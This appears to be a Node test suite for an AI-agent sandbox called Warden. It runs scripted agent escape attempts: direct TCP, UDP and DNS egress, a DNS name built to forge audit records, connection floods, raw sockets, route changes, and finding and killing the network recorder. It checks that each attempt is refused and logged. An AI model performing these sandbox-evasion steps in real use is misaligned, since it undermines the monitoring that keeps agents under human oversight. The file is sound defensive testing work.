// `warden run` the attacker's way, on the network: a program no hook sees (here a shell script run as
// the agent, the worst case) tries to get out directly: TCP to a public address, to the host's
// loopback port, to IPv6, a UDP datagram, DNS, a loop of a thousand connects, and to blind the
// recorder (kill it, trace it, re-add a route, open its own raw socket). Every attempt must be
// refused, reach no one, and be recorded (`egress` `direct`) under the session, bounded.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  auditRecords,
  baseEnv,
  BIN,
  listener,
  makeWork,
  sandboxSkip,
  sessionOf,
  wardenRun,
  type Ran,
  type Work,
} from '../helpers/sandbox.ts';
import { buildRelay } from '../../src/sandbox/relay-build.ts';
import { RECORDER_CAPS, attemptRecord } from '../../src/sandbox/netrec.ts';
import { fromStored } from '../../src/audit/record.ts';
import { bwrapArgs } from '../../src/sandbox/bwrap.ts';

/** Why direct attempts cannot be recorded here (a loud skip), or false. */
function netrecSkip(): string | false {
  const s = sandboxSkip();
  if (s) return s;
  if (!buildRelay()) return 'SKIPPED LOUDLY: no C compiler: the relay (and its network recorder) cannot be built';
  const caps = RECORDER_CAPS.flatMap((c) => ['--cap-add', c]);
  const p = spawnSync('bwrap', ['--ro-bind', '/', '/', '--unshare-all', '--cap-drop', 'ALL', ...caps, '--', 'true']);
  if (p.status !== 0) return `SKIPPED LOUDLY: bubblewrap will not give ${RECORDER_CAPS.join(', ')}: ${p.stderr}`;
  return false;
}

const skip = netrecSkip();
if (skip) process.stderr.write(`test/reliability/sandbox-net.test.ts: ${skip}\n`);
const bash = (script: string) => ['--agent', 'qwen-code', '--', 'bash', '-c', script];

function direct(w: Work, r: Ran) {
  const id = sessionOf(r);
  assert.ok(id, r.err);
  return auditRecords(w, ['--session', id!]).filter((x) => x.kind === 'direct');
}

const key = (x: Record<string, any>) => `${x.data.protocol} ${x.data.address} ${x.data.port}`;

test(
  'bash /dev/tcp to a public IP, to the host loopback port and Node to an IPv6 address, and a Python UDP datagram, from inside warden run: each refused at once, nothing reaches the host listener, each recorded as egress/direct under the session',
  { skip, timeout: 60_000 },
  async () => {
    const w = makeWork();
    const l = await listener();
    try {
      const node = `${process.execPath} -e "require('net').connect(443,'2001:db8::7').on('error',e=>console.log('v6',e.code))"`;
      const py = `python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('198.51.100.9', 4444))"`;
      const t0 = Date.now();
      const r = await wardenRun(
        w,
        bash(
          `s=$(date +%s%N); echo hi > /dev/tcp/203.0.113.5/8443; echo "a=$? $(( ($(date +%s%N)-s)/1000000 ))"; ` +
            `s=$(date +%s%N); echo hi > /dev/tcp/127.0.0.1/${l.port}; echo "b=$? $(( ($(date +%s%N)-s)/1000000 ))"; ` +
            `${node}; ${py}; echo py=$?`,
        ),
      );
      assert.equal(r.code, 0, r.err);
      const ms = [...r.out.matchAll(/[ab]=1 (\d+)/g)].map((m) => Number(m[1]));
      assert.equal(ms.length, 2, r.out);
      assert.ok(
        ms.every((x) => x < 1000),
        `a refusal took ${ms} ms`,
      );
      assert.match(r.out, /v6 ECONNREFUSED/);
      assert.equal(l.received(), '', 'something reached the host listener');
      const recs = direct(w, r);
      const keys = recs.map(key);
      for (const k of [
        'tcp 203.0.113.5 8443',
        `tcp 127.0.0.1 ${l.port}`,
        'tcp 2001:db8::7 443',
        'udp 198.51.100.9 4444',
      ])
        assert.ok(keys.includes(k), `${k} not recorded: ${keys}`);
      for (const x of recs) {
        assert.equal(x.source, 'egress');
        assert.equal(x.decision, 'deny');
        assert.match(x.data.reasons[0], /bypassed Warden's proxy and was refused/);
        assert.doesNotThrow(() => fromStored(x as Parameters<typeof fromStored>[0]));
      }
      assert.match(r.err, /\d+ direct attempt\(s\) refused/);
      process.stderr.write(`direct refusals took ${ms.join(', ')} ms; session ${Date.now() - t0} ms\n`);
    } finally {
      l.close();
    }
  },
);

test(
  'getent hosts example.com, a hand-made DNS query and a malformed one over UDP: each fails fast, nothing resolves, each is recorded with the queried name (quotes and control bytes escaped, no forged record)',
  { skip, timeout: 60_000 },
  async () => {
    const w = makeWork();
    // A query whose name holds a quote, a backslash and a newline, then a label that runs off the end.
    const py = [
      'import socket',
      'u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
      "q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'",
      'evil = b\'x"},{"proto":"tcp\\\\\\n\'',
      "u.sendto(q + bytes([len(evil)]) + evil + b'\\x03com\\x00\\x00\\x01\\x00\\x01', ('192.0.2.53', 53))",
      "u.sendto(q + b'\\x3fshort', ('192.0.2.53', 53))",
    ].join('\n');
    writeFileSync(join(w.proj, 'q.py'), py);
    const r = await wardenRun(
      w,
      bash(`s=$(date +%s%N); getent hosts example.com; echo "g=$? $(( ($(date +%s%N)-s)/1000000 ))"; python3 q.py`),
    );
    assert.equal(r.code, 0, r.err);
    const g = /g=(\d+) (\d+)/.exec(r.out);
    assert.ok(g && g[1] !== '0', `getent resolved something: ${r.out}`);
    assert.ok(Number(g![2]) < 3000, `getent took ${g![2]} ms`);
    const recs = direct(w, r);
    const dns = recs.filter((x) => x.data.port === 53);
    assert.ok(
      dns.some((x) => x.data.name === 'example.com' && x.data.checks.includes('egress.direct-dns')),
      JSON.stringify(dns),
    );
    const evil = dns.find((x) => x.data.address === '192.0.2.53' && x.data.name?.startsWith('x'));
    assert.ok(evil, JSON.stringify(dns));
    assert.ok(!/["\n]/.test(evil.data.name), `unescaped bytes in ${evil.data.name}`);
    assert.match(evil.data.name, /x\\x22/);
    assert.ok(
      dns.some((x) => x.data.address === '192.0.2.53' && x.data.name === undefined),
      'the malformed query',
    );
    assert.ok(!recs.some((x) => x.data.protocol === 'tcp'), 'a forged tcp record');
    process.stderr.write(`getent hosts failed in ${g![2]} ms\n`);
  },
);

test(
  '1,000 connects in a tight loop from inside: all refused, recorded in a bounded number of records whose counts add up to 1,000, and the loop is not slowed',
  { skip, timeout: 60_000 },
  async () => {
    const w = makeWork();
    const loop = [
      'import socket, time',
      't = time.time()',
      'for i in range(1000):',
      '    s = socket.socket()',
      '    try: s.connect(("192.0.2.80", 80))',
      '    except ConnectionRefusedError: pass',
      '    s.close()',
      'print("loop-ms", round((time.time() - t) * 1000))',
    ].join('\n');
    writeFileSync(join(w.proj, 'loop.py'), loop);
    const r = await wardenRun(w, bash('python3 loop.py'));
    assert.equal(r.code, 0, r.err);
    const ms = Number(/loop-ms (\d+)/.exec(r.out)?.[1]);
    const recs = direct(w, r).filter((x) => x.data.address === '192.0.2.80');
    const total = recs.reduce((n, x) => n + x.data.count, 0);
    assert.equal(total, 1000);
    assert.ok(recs.length <= 5, `${recs.length} records for one destination`);
    assert.ok(ms < 5000, `the loop took ${ms} ms`);
    process.stderr.write(`1,000 refused connects: ${ms} ms, ${recs.length} record(s)\n`);
  },
);

test(
  'the agent holds no capability (CapEff, CapPrm, CapBnd, CapAmb all zero): re-adding a route, opening a raw or a packet socket all fail with EPERM',
  { skip, timeout: 60_000 },
  async () => {
    const w = makeWork();
    const py = [
      'import socket',
      'for fam, typ, proto in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP), (socket.AF_PACKET, socket.SOCK_RAW, 3)]:',
      '    try: socket.socket(fam, typ, proto); print("opened")',
      '    except PermissionError: print("raw EPERM")',
    ].join('\n');
    writeFileSync(join(w.proj, 'raw.py'), py);
    const r = await wardenRun(
      w,
      bash(
        'grep -E "^Cap(Eff|Prm|Bnd|Amb)" /proc/self/status; ' +
          'ip route add 0.0.0.0/0 dev lo 2>&1; ip route del local 0.0.0.0/0 dev lo table local 2>&1; python3 raw.py',
      ),
    );
    assert.equal(r.code, 0, r.err);
    for (const c of ['CapEff', 'CapPrm', 'CapBnd', 'CapAmb'])
      assert.match(r.out, new RegExp(`${c}:\\s+0000000000000000`), r.out);
    assert.equal((r.out.match(/Operation not permitted/g) ?? []).length, 2, r.out);
    assert.equal((r.out.match(/raw EPERM/g) ?? []).length, 2, r.out);
    assert.ok(!r.out.includes('opened'));
  },
);

test(
  'the recorder is out of the agent’s reach: not among the processes it can see, its socket gone, everything it can kill killed and its parent traced, a later connect is still recorded',
  { skip, timeout: 60_000 },
  async () => {
    const w = makeWork();
    const r = await wardenRun(
      w,
      bash(
        'for p in /proc/[0-9]*; do tr "\\0" " " < $p/cmdline 2>/dev/null | grep -q -- "--recor[d]" && echo FOUND $p; done; ' +
          `${process.execPath} -e "require('net').connect('/run/warden/netrec.sock').on('error',e=>console.log('sock',e.code))"; ` +
          'for p in $(ls /proc | grep -E "^[0-9]+$"); do [ $p != 1 ] && [ $p != $$ ] && [ $p != $PPID ] && kill -9 $p 2>/dev/null; done; ' +
          'timeout 2 strace -p $PPID -o /dev/null 2>&1 | head -1; ' +
          'echo > /dev/tcp/192.0.2.99/9; echo done',
      ),
    );
    assert.equal(r.code, 0, r.err);
    assert.ok(!r.out.includes('FOUND'), r.out);
    assert.match(r.out, /sock ENOENT/);
    assert.match(r.out, /done/);
    assert.ok(
      direct(w, r).some((x) => key(x) === 'tcp 192.0.2.99 9'),
      'the connect after the attack was not recorded',
    );
  },
);

/** The recorder started by the `warden run` with this pid (its child, `relay --record …`). */
function recorderOf(pid: number): number | undefined {
  for (const p of readdirSync('/proc').filter((x) => /^\d+$/.test(x))) {
    try {
      const stat = readFileSync(`/proc/${p}/stat`, 'utf8');
      const ppid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
      if (ppid === pid && readFileSync(`/proc/${p}/cmdline`, 'utf8').includes('--record')) return Number(p);
    } catch {
      /* gone */
    }
  }
  return undefined;
}

test(
  'the recorder killed from outside mid-session: the session is ended with 124, the audit says why, and the agent does not run on',
  { skip, timeout: 60_000 },
  async () => {
    const w = makeWork();
    const c = spawn(process.execPath, [BIN, 'run', ...bash('sleep 8; touch after-end')], {
      cwd: w.proj,
      env: baseEnv(w),
    });
    let err = '';
    c.stderr.on('data', (d) => (err += d));
    const closed = new Promise<number | null>((res) => c.on('close', res));
    let rec: number | undefined;
    for (let i = 0; i < 100 && !rec; i++) {
      await new Promise((res) => setTimeout(res, 50));
      rec = recorderOf(c.pid!);
    }
    assert.ok(rec, 'no recorder found');
    await new Promise((res) => setTimeout(res, 500)); // the hand-out done, the agent running
    process.kill(rec!, 'SIGKILL');
    const code = await closed;
    assert.equal(code, 124, err);
    assert.match(err, /network recorder stopped/);
    assert.ok(!existsSync(join(w.proj, 'after-end')), 'the agent ran on');
    const id = /session: (run-\S+)/.exec(err)?.[1];
    const ended = auditRecords(w, ['--session', id!]).find((x) => x.kind === 'session-ended');
    assert.match(ended?.data.reasons[0], /network recorder stopped .* fails closed/);
  },
);

test(
  'a bubblewrap that refuses the capabilities: the session still runs, direct attempts still refused, and stderr and the session-start record say they are NOT recorded',
  { skip, timeout: 60_000 },
  async () => {
    const w = makeWork();
    const fake = join(w.dir, 'bwrap-no-caps');
    writeFileSync(
      fake,
      '#!/bin/sh\ncase "$*" in *--cap-add*) echo "bwrap: capabilities refused here" >&2; exit 1;; esac\nexec bwrap "$@"\n',
      { mode: 0o755 },
    );
    const r = await wardenRun(w, bash('echo > /dev/tcp/192.0.2.7/443; echo rc=$?'), { WARDEN_BWRAP: fake });
    assert.equal(r.code, 0, r.err);
    assert.match(r.out, /rc=1/);
    assert.match(r.err, /refused but NOT recorded: bubblewrap would not give/);
    assert.match(r.err, /direct attempts not recorded/);
    const recs = auditRecords(w, ['--session', sessionOf(r)!]);
    const start = recs.find((x) => x.kind === 'session-start');
    assert.equal(start?.data.netRecorder.recording, false);
    assert.ok(!recs.some((x) => x.kind === 'direct'));
  },
);

test('a recorder line becomes a typed egress/direct record; more than 32 destinations a second are counted together', () => {
  const dns = attemptRecord({ proto: 'udp', addr: '10.0.0.53', port: 53, count: 3, name: 'leak.example' });
  assert.deepEqual(fromStored(dns).data, {
    protocol: 'udp',
    address: '10.0.0.53',
    port: 53,
    count: 3,
    name: 'leak.example',
  });
  assert.match((dns.data.reasons as string[])[0], /DNS query for leak\.example to 10\.0\.0\.53:53 \(3 attempts/);
  const lo = attemptRecord({ proto: 'tcp', addr: '127.0.0.1', port: 5432, count: 1 });
  assert.match((lo.data.reasons as string[])[0], /host's port is not reachable/);
  const others = attemptRecord({ others: 500 });
  assert.equal(fromStored(others).data?.count, 500);
});

test(
  'near miss: a server the agent runs on 127.0.0.1 inside, a request through the proxy and a model request to the gateway make no direct record',
  { skip, timeout: 60_000 },
  async () => {
    const w = makeWork();
    const l = await listener();
    try {
      const srv =
        `${process.execPath} -e "const s=require('net').createServer(c=>c.end('pong')).listen(47001,'127.0.0.1',()=>` +
        `require('net').connect(47001,'127.0.0.1').on('data',d=>{console.log('local',String(d));s.close()}))"`;
      const r = await wardenRun(w, [
        '--allow-host',
        `127.0.0.1:${l.port}`,
        ...bash(
          `${srv}; curl -s -m 5 -x "$HTTP_PROXY" http://127.0.0.1:${l.port}/via-proxy; echo; ` +
            'curl -s -m 5 --noproxy "*" "$OPENAI_BASE_URL/models" >/dev/null; echo gw=$?',
        ),
      ]);
      assert.equal(r.code, 0, r.err);
      assert.match(r.out, /local pong/);
      assert.match(l.received(), /GET \/via-proxy/);
      assert.match(r.out, /gw=0/);
      assert.deepEqual(direct(w, r).map(key), []);
      assert.match(r.err, / 0 direct attempt\(s\) refused/);
    } finally {
      l.close();
    }
  },
);

test(
  'a connect to a public address where the agent itself listens on 0.0.0.0 reaches only its own listener (every address is its loopback) and is still recorded',
  { skip, timeout: 60_000 },
  async () => {
    const w = makeWork();
    const js =
      "const s=require('net').createServer(c=>c.end('own')).listen(47002,'0.0.0.0',()=>" +
      "require('net').connect(47002,'198.51.100.20').on('data',d=>{console.log('got',String(d));s.close()}))";
    writeFileSync(join(w.proj, 'own.js'), js);
    const r = await wardenRun(w, bash(`${process.execPath} own.js`));
    assert.equal(r.code, 0, r.err);
    assert.match(r.out, /got own/);
    assert.ok(direct(w, r).some((x) => key(x) === 'tcp 198.51.100.20 47002'));
  },
);

test(
  '40 destinations in one second: at most 32 listed a second, the rest counted together, every attempt accounted for',
  { skip, timeout: 60_000 },
  async () => {
    const w = makeWork();
    const py = [
      'import socket',
      'for p in range(1000, 1040):',
      '    s = socket.socket()',
      '    try: s.connect(("192.0.2.40", p))',
      '    except ConnectionRefusedError: pass',
      '    s.close()',
    ].join('\n');
    writeFileSync(join(w.proj, 'ports.py'), py);
    const r = await wardenRun(w, bash('python3 ports.py'));
    assert.equal(r.code, 0, r.err);
    const recs = direct(w, r);
    const listed = recs.filter((x) => x.data.address === '192.0.2.40');
    const others = recs.filter((x) => x.data.protocol === 'any');
    assert.equal(listed.length + others.reduce((n, x) => n + x.data.count, 0), 40);
    assert.ok(listed.length <= 32 * 2, `${listed.length} listed`); // a second's boundary may split them
    if (listed.length < 40) assert.match(others[0].data.reasons[0], /more direct attempt\(s\) in one second/);
  },
);

test(
  'a flood of 100,000 UDP datagrams from inside: a bounded number of records, counts and kernel drops account for every one, the session ends normally',
  { skip, timeout: 90_000 },
  async () => {
    const w = makeWork();
    const py = [
      'import socket, time',
      'u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
      't = time.time()',
      'for i in range(100000):',
      '    try: u.sendto(b"x" * 64, ("192.0.2.77", 9))',
      '    except OSError: pass',
      'print("flood-ms", round((time.time() - t) * 1000))',
    ].join('\n');
    writeFileSync(join(w.proj, 'flood.py'), py);
    const r = await wardenRun(w, bash('python3 flood.py'));
    assert.equal(r.code, 0, r.err);
    const recs = direct(w, r);
    const end = auditRecords(w, ['--session', sessionOf(r)!]).find((x) => x.kind === 'session-end')!;
    const counted = recs.filter((x) => x.data.address === '192.0.2.77').reduce((n, x) => n + x.data.count, 0);
    assert.ok(recs.length <= 40, `${recs.length} records`);
    // Each datagram is one outgoing packet (and its ICMP refusal one more, not a datagram of its own).
    assert.ok(counted + end.data.directDropped >= 100000, `${counted} counted, ${end.data.directDropped} dropped`);
    process.stderr.write(
      `UDP flood: ${/flood-ms (\d+)/.exec(r.out)?.[1]} ms, ${recs.length} records, ${counted} counted, ${end.data.directDropped} dropped by the kernel\n`,
    );
  },
);

test('the bubblewrap profile gives capabilities only when asked, and then drops every other one first', () => {
  const p = {
    workspace: '/w',
    home: '/h',
    sessionHome: '/s',
    runDir: '/r',
    hide: [],
    roFiles: [],
    env: {},
    chdir: '/w',
  };
  const plain = bwrapArgs(p, ['agent']).join(' ');
  assert.ok(!plain.includes('--cap-add'));
  const asked = bwrapArgs({ ...p, caps: RECORDER_CAPS }, ['agent']).join(' ');
  assert.match(
    asked,
    /--cap-drop ALL --cap-add CAP_NET_ADMIN --cap-add CAP_NET_RAW --cap-add CAP_SETPCAP --cap-add CAP_SETFCAP .*-- agent$/,
  );
});

test(
  'a user without root (uid 65534): the agent keeps that uid and gid, holds no capability, writes files as that user, and its direct attempts are still recorded',
  {
    skip: skip || (process.getuid?.() !== 0 ? 'SKIPPED LOUDLY: needs root to switch to uid 65534' : false),
    timeout: 60_000,
  },
  async () => {
    const w = makeWork();
    spawnSync('chown', ['-R', '65534:65534', w.dir]);
    const args = [
      '--reuid',
      '65534',
      '--regid',
      '65534',
      '--clear-groups',
      process.execPath,
      BIN,
      'run',
      ...bash('id -u; id -g; grep -E "^Cap(Eff|Bnd)" /proc/self/status; echo > /dev/tcp/192.0.2.65/65; touch mine'),
    ];
    const r = spawnSync('setpriv', args, { cwd: w.proj, env: baseEnv(w), encoding: 'utf8' });
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stdout, /^65534\n65534\n/);
    assert.match(r.stdout, /CapEff:\s+0{16}\nCapBnd:\s+0{16}/);
    const st = spawnSync('stat', ['-c', '%u:%g', join(w.proj, 'mine')], { encoding: 'utf8' });
    assert.equal(st.stdout.trim(), '65534:65534');
    const id = /session: (run-\S+)/.exec(r.stderr)?.[1];
    const recs = spawnSync(
      'setpriv',
      ['--reuid', '65534', '--regid', '65534', '--clear-groups', process.execPath, BIN, 'audit', 'export'],
      { cwd: w.proj, env: baseEnv(w), encoding: 'utf8' },
    );
    const direct = recs.stdout
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l))
      .filter((x) => x.session === id && x.kind === 'direct');
    assert.ok(
      direct.some((x) => key(x) === 'tcp 192.0.2.65 65'),
      recs.stdout + recs.stderr,
    );
  },
);
